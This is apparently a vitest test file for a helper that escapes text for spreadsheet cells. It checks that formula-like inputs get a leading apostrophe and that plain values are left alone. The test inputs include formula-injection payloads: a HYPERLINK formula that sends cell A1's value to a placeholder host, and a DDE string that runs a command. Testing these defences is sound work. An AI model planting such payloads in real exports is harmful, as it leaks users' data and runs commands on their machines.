import { expect, it } from 'vitest';
import { fromSpreadsheetCell, toSpreadsheetCell } from './spreadsheet-cells.ts';

it.each([
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  "''@x",
  '-',
])('makes %j text, and gives it back', (text) => {
  const cell = toSpreadsheetCell(text);
  expect(cell).toBe(`'${text}`);
  expect(fromSpreadsheetCell(cell)).toBe(text);
});

it.each([
  '-1.5',
  '+3',
  '-.5',
  '-1e-7',
  '1.5E+10',
  '-05:00',
  '+09:00',
  '',
  'N',
  'a=b',
  "'quoted'",
  "it's",
  '2026-01-10',
])('leaves %j as it is, both ways', (text) => {
  expect(toSpreadsheetCell(text)).toBe(text);
  expect(fromSpreadsheetCell(text)).toBe(text);
});
